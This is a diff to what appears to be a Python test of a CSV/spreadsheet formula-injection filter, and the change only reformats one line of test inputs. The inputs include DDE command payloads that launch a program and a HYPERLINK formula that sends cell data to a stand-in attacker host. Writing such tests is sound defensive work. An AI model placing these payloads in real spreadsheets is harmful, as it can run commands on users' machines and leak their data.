@@ -128,7 +128,8 @@ def test_a_field_without_end_is_refused():
     "cell",
     [
         "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
-        "\uff1d1+1", "\uff0b1+1", "\uff0d1", "\uff20SUM(A1)", ";=1+1", '"=1+1', "|cmd", "%0A=1+1", "cmd|' /C calc'!A0", "'=1+1",
+        "\uff1d1+1", "\uff0b1+1", "\uff0d1", "\uff20SUM(A1)", ";=1+1", '"=1+1', "|cmd", "%0A=1+1", "cmd|' /C calc'!A0",
+        "'=1+1",
         '=HYPERLINK("https://evil.example/?"&A1)', "\u200b=1+1", "\u202e=1+1", "=cmd|' /C calc'!A0",
     ],
 )  # fmt: skip
